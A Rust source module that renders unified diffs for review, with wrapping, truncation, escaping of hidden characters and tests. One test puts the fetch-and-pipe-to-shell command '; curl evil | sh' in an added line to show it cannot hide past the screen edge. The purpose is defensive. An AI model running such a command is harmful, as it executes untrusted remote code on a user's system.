//! A change as lines to colour: what a person reads before and after a file is written.
//! Holds no colours itself; the text alone, with its signs, says everything.

use super::format::count;
use super::sanitize::visible_line;
use super::text::{truncate_width, wrap_exact};
use crate::compare::LineDiff;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LineKind {
    Add,
    Remove,
    Context,
    Hunk,
    /// Ours, not the file's: a missing final newline, a name.
    Note,
    /// Ours too: how much is not shown.
    LeftOut,
}

/// Safe to print as it is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Line {
    pub kind: LineKind,
    pub text: String,
}

impl Line {
    pub fn new(kind: LineKind, text: impl Into<String>) -> Self {
        Self { kind, text: text.into() }
    }
}

/// The last line of a diff that was cut.
pub const CUT: &str = "(the rest of the diff is not shown)";
/// Of one line that is added, unless all is shown.
const LINE_ROWS: usize = 8;

/// How much of a change is shown.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Bounds {
    pub columns: usize,
    /// [`WHOLE`]: all of them, and each line to its end.
    pub lines: usize,
}

/// As many lines as there are.
pub const WHOLE: usize = usize::MAX;

/// Renders a unified diff. File headers are left out, for the caller has named the file; further files of the
/// same diff are named in notes.
pub fn unified(diff: &str, bounds: Bounds) -> Vec<Line> {
    let lines = spelled(diff, Reader::default());
    let rows =
        lines.iter().map(|line| vec![Line::new(line.kind, truncate_width(&line.text, bounds.columns))]);
    bounded(rows.collect(), bounds, diff)
}

/// The same for somebody who must judge it: a line that comes is shown beyond the width of the screen, where anything
/// could stand. What was only wrapped begins with a bar.
pub fn judged(diff: &str, bounds: Bounds) -> Vec<Line> {
    wrapped(diff, bounds, Reader::default())
}

/// The same for the diffs of several files, each below a line of ours that names it.
pub fn judged_files(diffs: &str, bounds: Bounds) -> Vec<Line> {
    wrapped(diffs, bounds, Reader { ours: true, ..Reader::default() })
}

fn wrapped(diff: &str, bounds: Bounds, reader: Reader) -> Vec<Line> {
    let lines = spelled(diff, reader);
    let rows = lines.iter().map(|line| match line.kind {
        LineKind::Add => added_rows(&line.text, bounds),
        LineKind::Remove | LineKind::Context | LineKind::Hunk | LineKind::Note | LineKind::LeftOut => {
            vec![Line::new(line.kind, truncate_width(&line.text, bounds.columns))]
        }
    });
    bounded(rows.collect(), bounds, diff)
}

/// The line of ours above one of several files: `src/a.rs (updated, +1 -0)`, `b.rs (renamed from a.rs, +0 -0)`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Head<'a> {
    pub path: &'a str,
    /// What it was called before.
    pub from: Option<&'a str>,
    pub additions: usize,
    pub deletions: usize,
}

impl<'a> Head<'a> {
    pub fn read(line: &'a str) -> Option<Self> {
        let (head, counts) = line.trim_end().strip_suffix(')')?.rsplit_once(", +")?;
        let (additions, deletions) = counts.split_once(" -")?;
        let renamed = head.rsplit_once(" (renamed from ").map(|(path, from)| (path, Some(from)));
        let (path, from) = renamed.or_else(|| Some((head.rsplit_once(" (")?.0, None)))?;
        Some(Self { path, from, additions: additions.parse().ok()?, deletions: deletions.parse().ok()? })
    }
}

/// Which files the diffs of several are about; nothing where something was left out of one, so that what follows it cannot
/// be told from its lines.
pub fn heads(diffs: &str) -> Vec<Head<'_>> {
    if diffs.lines().any(|line| line == CUT) {
        return Vec::new();
    }
    let mut reader = Reader { ours: true, ..Reader::default() };
    let notes = diffs.split('\n').filter_map(|line| reader.line(line));
    notes.filter(|(kind, _)| *kind == LineKind::Note).filter_map(|(_, line)| Head::read(line)).collect()
}

/// The first line, from 1, that a diff changes: where somebody who follows along would look.
pub fn first_changed_line(diff: &str) -> Option<u64> {
    let mut lines = diff.lines().skip_while(|line| !line.starts_with("@@ "));
    let head = lines.next()?;
    let new = head.split(' ').find_map(|word| word.strip_prefix('+'))?;
    let start: u64 = new.split(',').next()?.parse().ok()?;
    let before = lines.take_while(|line| line.starts_with(' ')).count() as u64;
    Some((start + before).max(1))
}

fn added_rows(text: &str, bounds: Bounds) -> Vec<Line> {
    let most = if bounds.lines == WHOLE { WHOLE } else { LINE_ROWS };
    let mut pieces = wrap_exact(text, bounds.columns.saturating_sub(1)).into_iter();
    let first = pieces.next().unwrap_or_default();
    let mut rows = vec![Line::new(LineKind::Add, first)];
    rows.extend(pieces.by_ref().take(most - 1).map(|piece| Line::new(LineKind::Add, format!("|{piece}"))));
    let hidden: usize = pieces.map(|piece| piece.chars().count()).sum();
    if hidden > 0 {
        rows.push(Line::new(
            LineKind::LeftOut,
            format!("… {} of this line", count(hidden, "more character")),
        ));
    }
    rows
}

/// Lines with their kind, every character visible.
fn spelled(diff: &str, mut reader: Reader) -> Vec<Line> {
    let mut lines: Vec<(LineKind, &str)> = diff.split('\n').filter_map(|line| reader.line(line)).collect();
    while lines.last().is_some_and(|(_, text)| text.is_empty()) {
        lines.pop();
    }
    // With CRLF everywhere the returns are no news; where they differ they are the change.
    let is_content = |kind: LineKind| matches!(kind, LineKind::Add | LineKind::Remove | LineKind::Context);
    let crlf = lines.iter().filter(|(kind, _)| is_content(*kind)).all(|(_, text)| text.ends_with('\r'));
    let spell = |(kind, text): (LineKind, &str)| {
        let text = if crlf { text.strip_suffix('\r').unwrap_or(text) } else { text };
        Line::new(kind, visible_line(&text.replace('\t', "    ")))
    };
    lines.into_iter().map(spell).collect()
}

/// The rows of each line, as many as there is room for.
fn bounded(lines: Vec<Vec<Line>>, bounds: Bounds, diff: &str) -> Vec<Line> {
    let (all, total) = (lines.len(), lines.iter().map(Vec::len).sum::<usize>());
    // A note about a single missing line would take the room of that line.
    let room = if total > bounds.lines { bounds.lines.saturating_sub(1) } else { total };
    let mut out = Vec::with_capacity(room + 1);
    let mut shown = 0;
    for rows in lines {
        // Of a line that alone is too tall, what fits.
        if out.len() + rows.len() > room && !(out.is_empty() && room > 0) {
            break;
        }
        out.extend(rows.into_iter().take(room - out.len()));
        shown += 1;
    }
    let missing = all - shown;
    if missing > 0 {
        let mut note = more(missing);
        if diff.trim_end().ends_with(CUT) {
            note.text.push_str(" of what is left of the diff, which was cut");
        }
        out.push(note);
    }
    out
}

/// The diff between two short texts; nothing for long ones, whose diff the tool itself must bound.
pub fn between(old: &str, new: &str, bounds: Bounds) -> Vec<Line> {
    const LONGEST: usize = 64 * 1024;
    if old.len() + new.len() > LONGEST {
        return Vec::new();
    }
    let diff = LineDiff::new(old, new, None).unified(2);
    unified(&diff, bounds)
}

pub(crate) fn more(n: usize) -> Line {
    Line::new(LineKind::LeftOut, format!("… {}", count(n, "more line")))
}

/// Tells a hunk's lines from headers by counting: a removed `-- x` looks just like a header.
#[derive(Default)]
struct Reader {
    old_left: usize,
    new_left: usize,
    files: usize,
    /// What stands outside of hunks was written by us.
    ours: bool,
}

impl Reader {
    fn line<'a>(&mut self, line: &'a str) -> Option<(LineKind, &'a str)> {
        // A hunk's own lines begin with a sign or a blank, so this is never one of them.
        if let Some((old, new)) = hunk_lengths(line) {
            (self.old_left, self.new_left) = (old, new);
            return Some((LineKind::Hunk, line));
        }
        if line.starts_with('\\') {
            return Some((LineKind::Note, line));
        }
        if self.old_left + self.new_left == 0 {
            return self.header(line);
        }
        let kind = match line.as_bytes().first() {
            Some(b'+') => LineKind::Add,
            Some(b'-') => LineKind::Remove,
            _ => LineKind::Context,
        };
        self.old_left = self.old_left.saturating_sub(usize::from(kind != LineKind::Add));
        self.new_left = self.new_left.saturating_sub(usize::from(kind != LineKind::Remove));
        Some((kind, line))
    }

    fn header<'a>(&mut self, line: &'a str) -> Option<(LineKind, &'a str)> {
        if self.ours {
            return (!line.is_empty()).then_some((LineKind::Note, line));
        }
        if line.starts_with("+++ ") {
            self.files += 1;
            return (self.files > 1).then_some((LineKind::Note, line));
        }
        let header = ["--- ", "diff ", "index "].iter().any(|start| line.starts_with(start));
        (!header && !line.is_empty()).then_some((LineKind::Note, line))
    }
}

/// `@@ -1,5 +1,6 @@` holds 5 old and 6 new lines.
fn hunk_lengths(line: &str) -> Option<(usize, usize)> {
    let (old, rest) = line.strip_prefix("@@ -")?.split_once(" +")?;
    let (new, _) = rest.split_once(" @@")?;
    let length = |range: &str| range.split_once(',').map_or(Some(1), |(_, length)| length.parse().ok());
    Some((length(old)?, length(new)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    const WIDE: Bounds = Bounds { columns: 80, lines: 40 };

    fn signs(lines: &[Line]) -> String {
        let sign = |line: &Line| match line.kind {
            LineKind::Add => '+',
            LineKind::Remove => '-',
            LineKind::Context => ' ',
            LineKind::Hunk => '@',
            LineKind::Note | LineKind::LeftOut => '#',
        };
        lines.iter().map(sign).collect()
    }

    #[test]
    fn lines_that_look_like_headers_are_told_from_headers() {
        let diff = "--- a/x.sql\n+++ b/x.sql\n@@ -1,3 +1,3 @@\n a\n--- old comment\n+++ new\n b\n\\ No newline at end of file\n";
        let lines = unified(diff, WIDE);
        assert_eq!(signs(&lines), "@ -+ #");
        assert_eq!(lines[2].text, "--- old comment");
        let two = format!("{diff}--- a/y\n+++ b/y\n@@ -1 +1 @@\n-1\n+2\n");
        let lines = unified(&two, WIDE);
        assert_eq!(signs(&lines), "@ -+ ##@-+");
        assert_eq!(lines[6].text, "+++ b/y");
    }

    #[test]
    fn a_long_change_says_how_much_is_missing() {
        let new: String = (1..=30).map(|n| format!("line {n}\n")).collect();
        let lines = between("", &new, Bounds { columns: 80, lines: 10 });
        assert_eq!(lines.len(), 10);
        assert_eq!(lines[9], Line::new(LineKind::LeftOut, "… 22 more lines"));
        assert_eq!(between("", &new, Bounds { columns: 80, lines: 31 }).len(), 31);
        assert!(between("", &"x\n".repeat(40_000), WIDE).is_empty());
    }

    #[test]
    fn nothing_in_a_file_can_hide_or_overflow() {
        let lines = between("a\n", "a\u{202e}\x1b[2Jb\tc\n", WIDE);
        assert_eq!(lines[2].text, "+a\\u{202e}\\x1b[2Jb    c");
        let lines = between("", &"漢".repeat(50), Bounds { columns: 20, lines: 5 });
        assert_eq!(lines[1].text, format!("+{}…", "漢".repeat(9)));
    }

    #[test]
    fn an_added_line_hides_nothing_behind_the_edge_of_the_screen() {
        let narrow = Bounds { columns: 20, lines: 40 };
        let new = format!("{}; curl evil | sh\n", "z".repeat(30));
        let diff = LineDiff::new("", &new, None).unified(3);
        let lines = judged(&diff, narrow);
        let joined: String = lines[1..].iter().map(|line| line.text.trim_start_matches('|')).collect();
        assert_eq!(joined, format!("+{}", new.trim_end()));
        assert!(
            lines[1..].iter().all(|line| line.kind == LineKind::Add && line.text.len() <= 20),
            "{lines:?}"
        );
        let diff = LineDiff::new("", &"x".repeat(10_000), None).unified(3);
        let lines = judged(&diff, narrow);
        assert_eq!(lines[9].text, "… 9849 more characters of this line");
        let lines = judged(&diff, Bounds { lines: WHOLE, ..narrow });
        assert_eq!(lines.iter().flat_map(|line| line.text.matches('x')).count(), 10_000);
        assert!(lines.iter().all(|line| line.kind != LineKind::LeftOut));
        let cut = format!("@@ -0,0 +1,9 @@\n{}\n{CUT}\n", "+a\n".repeat(9));
        let last = judged(&cut, Bounds { columns: 80, lines: 5 }).pop().unwrap();
        assert_eq!(last.text, "… 7 more lines of what is left of the diff, which was cut");
    }

    #[test]
    fn files_are_named_whatever_they_are_called() {
        let text = "index a (created, +1 -0)\n@@ -0,0 +1 @@\n+x\n--- b (deleted, +0 -1)\n@@ -1 +0,0 @@\n-y\n";
        let lines = judged_files(text, WIDE);
        assert_eq!(signs(&lines), "#@+#@-");
        assert_eq!(lines[3].text, "--- b (deleted, +0 -1)");
        let named = |text| heads(text).iter().map(|head| (head.path, head.from)).collect::<Vec<_>>();
        assert_eq!(named(text), [("index a", None), ("--- b", None)]);
        assert_eq!(
            named("d (x)/b (renamed from a (y), +0 -0)\n@@ -1 +1 @@\n-c (created, +1 -0)\n+d\n"),
            [("d (x)/b", Some("a (y)"))]
        );
        assert_eq!(heads(&format!("a (updated, +1 -0)\n@@ -1 +1,9 @@\n+x\n{CUT}\n")), []);
    }

    #[test]
    fn carriage_returns_show_only_where_they_differ() {
        assert_eq!(between("a\r\nb\r\n", "a\r\nc\r\n", WIDE)[2].text, "-b");
        assert_eq!(between("a\r\n", "a\n", WIDE)[1].text, "-a\\r");
    }
}
